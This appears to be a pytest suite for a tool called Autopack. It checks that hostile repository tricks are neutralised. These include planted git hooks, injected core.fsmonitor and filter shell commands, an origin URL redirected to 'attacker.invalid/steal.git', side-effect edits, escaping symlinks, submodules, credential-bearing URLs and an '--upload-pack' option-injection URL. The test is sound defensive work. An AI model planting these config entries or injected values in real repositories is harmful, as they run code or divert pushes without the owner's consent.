"""Hostile repositories against the real workspace: hooks, filters, config, submodules, side effects.

Each case builds a real repository with a bare remote, lets a "test command" do what a hostile
one would, and checks what git did, what was committed and pushed, and what Autopack reported.
"""

import subprocess
from pathlib import Path

import pytest

from autopack import redaction
from autopack.workspace import GitWorkspace, WorkspaceError, split_credentials

GIT = ["git", "-c", "user.name=t", "-c", "user.email=t@t", "-c", "init.defaultBranch=main"]


def git(cwd: Path, *args: str) -> str:
    return subprocess.run([*GIT, *args], cwd=cwd, check=True, capture_output=True, text=True).stdout


def make_remote(tmp_path: Path, files: dict[str, str]) -> Path:
    """A bare repository whose main branch holds ``files``."""
    source = tmp_path / "source"
    source.mkdir()
    git(source, "init", "-q")
    for name, text in files.items():
        (source / name).parent.mkdir(parents=True, exist_ok=True)
        (source / name).write_text(text, encoding="utf-8")
    git(source, "add", "-A")
    git(source, "commit", "-qm", "initial")
    remote = tmp_path / "remote.git"
    git(tmp_path, "clone", "-q", "--bare", str(source), str(remote))
    return remote


def clone(tmp_path: Path, remote: Path) -> GitWorkspace:
    return GitWorkspace.clone(
        str(remote), ref="main", dest=tmp_path / "work", branch="autopack/demo"
    )


def test_a_hook_a_test_wrote_never_runs_and_is_discarded(tmp_path: Path) -> None:
    workspace = clone(tmp_path, make_remote(tmp_path, {"app.py": "x = 1\n"}))
    proof = tmp_path / "hook-ran"
    for hook in ("pre-commit", "commit-msg", "post-commit", "pre-push", "reference-transaction"):
        path = workspace.root / ".git" / "hooks" / hook
        path.write_text(f"#!/bin/sh\necho {hook} >> {proof}\n", encoding="utf-8")
        path.chmod(0o755)
    (workspace.root / "app.py").write_text("x = 2\n", encoding="utf-8")

    discarded = workspace.discard_side_effects(["app.py"])
    workspace.commit("phase 1")
    workspace.push()

    assert not proof.exists()
    assert ".git/hooks/pre-commit" in discarded
    assert not (workspace.root / ".git" / "hooks" / "pre-commit").exists()


def test_config_a_test_rewrote_is_put_back_before_git_runs(tmp_path: Path) -> None:
    remote = make_remote(tmp_path, {"app.py": "x = 1\n"})
    workspace = clone(tmp_path, remote)
    proof = tmp_path / "fsmonitor-ran"
    config = workspace.root / ".git" / "config"
    with config.open("a", encoding="utf-8") as handle:
        handle.write(
            f'[core]\n\tfsmonitor = "echo x >> {proof}"\n\thooksPath = /tmp/evil\n'
            f'[remote "origin"]\n\turl = https://attacker.invalid/steal.git\n'
        )
    (workspace.root / "app.py").write_text("x = 2\n", encoding="utf-8")

    discarded = workspace.discard_side_effects(["app.py"])
    workspace.commit("phase 1")
    workspace.push()  # goes to the real remote, not the attacker's

    assert ".git/config" in discarded
    assert not proof.exists()
    assert "attacker" not in config.read_text(encoding="utf-8")
    assert git(remote, "show", "autopack/demo:app.py") == "x = 2\n"


def test_repository_filters_never_run(tmp_path: Path) -> None:
    proof = tmp_path / "filter-ran"
    remote = make_remote(tmp_path, {".gitattributes": "*.py filter=evil\n", "app.py": "x = 1\n"})
    workspace = clone(tmp_path, remote)
    with (workspace.root / ".git" / "config").open("a", encoding="utf-8") as handle:
        handle.write(f'[filter "evil"]\n\tclean = "sh -c \'echo c >> {proof}; cat\'"\n')
        handle.write(f"\tsmudge = \"sh -c 'echo s >> {proof}; cat'\"\n")
    # The attributes file Autopack writes switches filters off even if config survives.
    assert (workspace.root / ".git" / "info" / "attributes").read_text() == "* -filter\n"
    workspace._git_state = None  # pretend the config change was Autopack's own
    (workspace.root / "app.py").write_text("x = 2\n", encoding="utf-8")
    workspace.diff(workspace.head())
    workspace.commit("phase 1")
    assert not proof.exists()


def test_side_effects_of_test_commands_are_discarded_and_named(tmp_path: Path) -> None:
    remote = make_remote(
        tmp_path,
        {
            "src/app.py": "x = 1\n",
            "README.md": "readme\n",
            ".github/workflows/ci.yml": "on: push\n",
            "poetry.lock": "lock\n",
            ".gitignore": "build/\n",
        },
    )
    workspace = clone(tmp_path, remote)
    root = workspace.root
    (root / "src" / "app.py").write_text("x = 2\n", encoding="utf-8")  # the governed edit
    (root / "src" / "new.py").write_text("y = 1\n", encoding="utf-8")  # governed new file
    snapshot = workspace.snapshot(["src/app.py", "src/new.py"])
    # What the "tests" did afterwards:
    (root / "README.md").write_text("pwned\n", encoding="utf-8")
    (root / ".github" / "workflows" / "ci.yml").write_text("on: pwned\n", encoding="utf-8")
    (root / "poetry.lock").unlink()
    (root / "generated").mkdir()
    (root / "generated" / "out.txt").write_text("gen\n", encoding="utf-8")
    (root / ".gitignore").write_text("build/\ngenerated/\n", encoding="utf-8")
    (root / "src" / "new.py").write_text("y = 'rewritten by a test'\n", encoding="utf-8")
    (root / "nested").mkdir()
    git(root / "nested", "init", "-q")  # an embedded repository (would become a gitlink)

    discarded = workspace.discard_side_effects(snapshot)
    commit = workspace.commit("phase 1")

    assert set(discarded) >= {
        "README.md",
        ".github/workflows/ci.yml",
        "poetry.lock",
        ".gitignore",
        "generated/out.txt",
        "nested",
        "src/new.py (changed after the governed apply)",
    }
    changed = git(root, "show", "--name-only", "--format=", commit).split()
    assert sorted(changed) == ["src/app.py", "src/new.py"]
    assert (root / "src" / "new.py").read_text() == "y = 1\n"
    assert (root / "README.md").read_text() == "readme\n"
    assert (root / "poetry.lock").is_file()
    assert not (root / "generated").exists()


def test_changes_a_test_command_staged_are_discarded_too(tmp_path: Path) -> None:
    remote = make_remote(tmp_path, {"app.py": "x = 1\n", "README.md": "readme\n"})
    workspace = clone(tmp_path, remote)
    root = workspace.root
    (root / "app.py").write_text("x = 2\n", encoding="utf-8")  # the governed edit
    snapshot = workspace.snapshot(["app.py"])
    # A command (outside bubblewrap, .git is writable) stages what it changed:
    (root / "README.md").write_text("pwned\n", encoding="utf-8")
    (root / "staged.py").write_text("evil = 1\n", encoding="utf-8")
    (root / "intent.py").write_text("evil = 2\n", encoding="utf-8")
    git(root, "add", "README.md", "staged.py")
    git(root, "add", "--intent-to-add", "intent.py")

    discarded = workspace.discard_side_effects(snapshot)
    commit = workspace.commit("phase 1")

    assert set(discarded) >= {"README.md", "staged.py", "intent.py"}
    assert git(root, "show", "--name-only", "--format=", commit).split() == ["app.py"]
    assert (root / "README.md").read_text() == "readme\n"
    assert not (root / "staged.py").exists()
    assert not (root / "intent.py").exists()


def test_discarding_never_follows_a_symlink_out_of_the_workspace(tmp_path: Path) -> None:
    workspace = clone(tmp_path, make_remote(tmp_path, {"app.py": "x = 1\n"}))
    outside = tmp_path / "precious"
    outside.mkdir()
    (outside / "keep.txt").write_text("keep\n", encoding="utf-8")
    (workspace.root / "link").symlink_to(outside, target_is_directory=True)

    assert "link" in workspace.discard_side_effects([])
    assert (outside / "keep.txt").read_text() == "keep\n"


def test_submodules_are_never_cloned_or_updated(tmp_path: Path) -> None:
    (tmp_path / "inner").mkdir()
    inner = make_remote(tmp_path / "inner", {"secret.txt": "inner\n"})
    source = tmp_path / "outer"
    source.mkdir()
    git(source, "init", "-q")
    (source / "app.py").write_text("x = 1\n", encoding="utf-8")
    git(source, "-c", "protocol.file.allow=always", "submodule", "add", "-q", str(inner), "sub")
    git(source, "add", "-A")
    git(source, "commit", "-qm", "with submodule")
    remote = tmp_path / "outer.git"
    git(tmp_path, "clone", "-q", "--bare", str(source), str(remote))

    workspace = GitWorkspace.clone(
        str(remote), ref="main", dest=tmp_path / "work", branch="autopack/demo"
    )
    assert not (workspace.root / "sub" / "secret.txt").exists()
    assert not (workspace.root / ".git" / "modules").exists()


@pytest.mark.parametrize(
    ("url", "clean"),
    [
        ("https://user:s3cr3t-pass-word@example.com/r.git", "https://example.com/r.git"),
        ("https://ghp_abcdefghijklmnopqrst1234@example.com/r.git", "https://example.com/r.git"),
        ("ssh://git@example.com/r.git", "ssh://git@example.com/r.git"),
        ("git@example.com:r.git", "git@example.com:r.git"),
    ],
)
def test_credentials_are_taken_out_of_repository_urls(url: str, clean: str) -> None:
    assert split_credentials(url)[0] == clean


def test_url_credentials_never_reach_config_errors_or_the_redactor_misses_them(
    tmp_path: Path,
) -> None:
    secret = "url-borne-secret-9f8e7d"
    with pytest.raises(WorkspaceError) as caught:
        GitWorkspace.clone(
            f"https://someone:{secret}@127.0.0.1:9/repo.git",
            ref="main",
            dest=tmp_path / "w",
            branch="autopack/x",
        )
    assert secret not in str(caught.value)
    assert "127.0.0.1:9/repo.git" in str(caught.value)
    config = tmp_path / "w" / ".git" / "config"
    assert not config.exists() or secret not in config.read_text()
    assert redaction.redact(f"token={secret}") == "token=***"


def test_a_url_that_looks_like_an_option_is_not_an_option(tmp_path: Path) -> None:
    proof = tmp_path / "upload-pack-ran"
    with pytest.raises(WorkspaceError):
        GitWorkspace.clone(
            f"--upload-pack=touch {proof}",
            ref="main",
            dest=tmp_path / "w",
            branch="autopack/x",
        )
    assert not proof.exists()
